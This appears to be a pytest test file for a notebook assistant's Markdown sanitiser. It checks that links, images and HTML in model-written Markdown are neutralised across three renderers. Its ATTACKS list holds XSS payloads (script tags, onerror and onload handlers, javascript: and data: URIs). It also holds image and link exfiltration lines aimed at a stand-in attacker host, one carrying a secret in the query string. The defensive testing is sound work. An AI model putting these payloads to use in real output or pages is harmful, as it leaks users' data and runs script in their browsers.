"""Nothing in a model's Markdown is fetched, runs or leads anywhere, whichever reader renders it; code stays code."""

from __future__ import annotations

import re
import time

import mistune
import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt

from nbcopilot.config import Config
from nbcopilot.inference import ModelInfo, Sampling
from nbcopilot.types import Candidate, Notebook, Target, Task, Verdict
from nbcopilot.write.grounding import facts, unsupported
from nbcopilot.write.harmless import harmless, without_addresses
from nbcopilot.write.plan import plan
from nbcopilot.write.provenance import Provenance

READERS = [
    MarkdownIt("commonmark", {"html": True}).enable("table").render,
    MarkdownIt("js-default", {"html": True}).render,
    mistune.create_markdown(escape=False, plugins=["table", "strikethrough"]),
]
ATTACKS = [
    "![chart](http://attacker.example/p.png?q=hunter2)", "![chart](//attacker.example/p.png)", "![chart](http:\\\\attacker.example\\p.png)",
    "![c][r]\n\n[r]: //attacker.example/p", "![r]\n\n[r]:\n  //attacker.example/p\n  'title'", "[r][]\n\n> [r]: //attacker.example", "- [r]: //attacker.example\n\n[r]", "1. - > [r]: //attacker.example\n\n[r]",
    "[more](javascript:alert(1))", "[more](JaVaScRiPt:alert)", "[more](data:text/html;base64,PHNjcmlwdD4=)", "[more](//attacker.example/login \"t\")",
    "[more](<//attacker.example/a b>)", "[![i](//attacker.example/1)](//attacker.example/2)", "[a\\]](//attacker.example)", "[a](\n//attacker.example\n)",
    "![a [b] c](//attacker.example)", "[a](//attacker.example/(x(y)))", "<img src=//attacker.example/x>", "<img\nsrc=//attacker.example/x\n>", "<IMG SRC='//attacker.example/x>y' onerror=alert(1)>",
    "\\`<img src=//attacker.example/x>\\`", "~~~\n```\n~~~\n\n<img src=//attacker.example/x>\n\n~~~\n```\n~~~", "It is `a\n<img src=//attacker.example/x>\nb` here.",
    "<svg onload=alert(1)>\n\n<script>alert(1)</script>", "<scr<script>ipt>alert(1)</scr</script>ipt>", "<http://attacker.example/x>", "<javascript:alert(1)>", "<me@attacker.example>",
    "<style>body{background:url(//attacker.example/x)}</style>", "<!-- --><img src=//attacker.example>", "<!--\n```\n--><img src=//attacker.example>\n```", "<a href=//attacker.example>x</a>",
    "<x-y onclick='a()'>z</x-y>", "<details open ontoggle=alert(1)>", "| a |\n|---|\n| ![x](//attacker.example) |", "# ![x](//attacker.example)", "> ![x](//attacker.example)", "1. [x](//attacker.example)",
    "`` ` `` ![x](//attacker.example) `` ` ``", "```\ncode\n``\n![x](//attacker.example)\n```\n![y](//attacker.example)", "    code\n\n![x](//attacker.example)", "*a ![x](//attacker.example)*",
    "&lt;img src=x> ![x](&#47;&#47;attacker.example)", "<base href=//attacker.example>", "<iframe srcdoc='<img src=//attacker.example>'>", "<table background=//attacker.example>", "<br/><img src=x onerror=alert(1)//",
    ">~~~`", "- ~~~ py\" onload='x'\n  x\n  ~~~", "> ```a<img src=x>\n> x\n> ```",
]  # fmt: skip
LIVE = re.compile(r"<(?!/?(?:p|em|strong|code|pre|ul|ol|li|h[1-6]|blockquote|table|thead|tbody|tr|th|td|hr|br|s|del)\b(?: class=\"language-[\w+#.-]*\"| start=\"\d+\"| style=\"text-align: ?\w+;?\")?\s*/?>)")  # fmt: skip


def assert_dead(text: str) -> None:
    for read in READERS:
        rendered = str(read(text))
        found = LIVE.search(rendered)
        assert not found, f"{text!r} -> {rendered!r}"


@pytest.mark.parametrize("attack", ATTACKS)
def test_no_reader_finds_anything_live(attack: str) -> None:
    for text in (
        attack,
        f"The cell defines `area`. {attack}",
        f"- one\n- {attack}\n\nand `b` so",
        f"```\nx\n```\n{attack}\n\n{attack}",
    ):
        assert_dead(harmless(text))
        assert harmless(harmless(text)) == harmless(text)


PIECES = st.sampled_from(
    ["`", "``", "```", "~~~", "\n", "\n\n", "    ", "- ", "> ", "![", "[", "](", "][", "]:", "]", "(", ")", "//a.example", "<img src=x>", "<", ">", "\\", "<a href='", "'>",
     "javascript:x", "r", " ", "<!--", "-->", "<script>", "</script>", "&lt;", "|", "*", '"', "<http://a.example>"]
)  # fmt: skip


@given(st.lists(PIECES, max_size=25).map("".join))
def test_no_mixture_is_live(text: str) -> None:
    assert_dead(harmless(text))


@pytest.mark.parametrize(
    "text",
    ["Adds `a < b` and 1 < 2, returns `df[x](y)`.", "**Bold** and *it*: `x[0]`, a[1] and (b).", "- one\n- two\n  - three\n\n1. x\n2. y", "| a | b |\n|---|---|\n| 1 | `<b>` |",
     "# Title\n\ntext with `` ` `` in it", "```python\nx = '<img src=y>'  # [a](b)\n```", "see https://example.org/known for more", "Costs $5 & more; list[int] is a type", "```\n<i>\n```\n1 < 2"],
)  # fmt: skip
def test_ordinary_text_and_code_stay_as_they_are(text: str) -> None:
    assert harmless(text) == text


def test_words_of_a_link_stay() -> None:
    assert (
        harmless("Read [the *manual*](http://x.example) and ![the plot](p.png).") == "Read the *manual* and the plot."
    )


@pytest.mark.parametrize("address", ["http://a.example/x", "HTTP:\\\\a.example", "//a.example/p", "www.a.example", "javascript:alert(1)", "ftp://a.example", "foo+bar://a.example", "\\\\a.example\\p"])  # fmt: skip
def test_grounding_knows_addresses_of_every_spelling(address: str) -> None:
    assert unsupported(f"It loads {address} now.", facts(["x = 1"]))
    assert "a.example" not in without_addresses(f"see {address} now") and "alert" not in without_addresses(address)


def test_every_markdown_cell_of_an_answer_passes_it() -> None:
    provenance = Provenance(ModelInfo("m"), Sampling(), "sha256:0", "g", "2026-11-29T00:00:00Z", "1")
    for kind in ("explain", "document"):
        task = Task(kind, target=Target("x = 1"))  # type: ignore[arg-type]
        chosen = [(Candidate("Sets x. ![c](//a.example) <img src=//a.example>", "markdown"), Verdict(True))]
        edit = plan(task, Notebook(), chosen, provenance, Config())
        assert "a.example" not in edit.cells[0].source and "Sets x." in edit.cells[0].source


@pytest.mark.parametrize(
    "seed",
    ["- ", "[", "![", "](", "<a ", "<a x='", "`", "[r]: ", "1. ", "> ", "<!--", "<script>", "a\n", "[a](", "[a](b)"],
)
def test_no_text_makes_it_slow(seed: str) -> None:
    def seconds(length: int) -> float:
        start = time.process_time()
        harmless((seed * length)[:length])
        return time.process_time() - start

    ratios = []
    for _ in range(3):
        large = seconds(24_000)
        ratios.append(large / max(seconds(6000), 1e-3))
        if large < 0.1 or ratios[-1] < 8:
            return
    raise AssertionError(f"{seed!r}: four times the text takes {min(ratios):.1f} times as long")
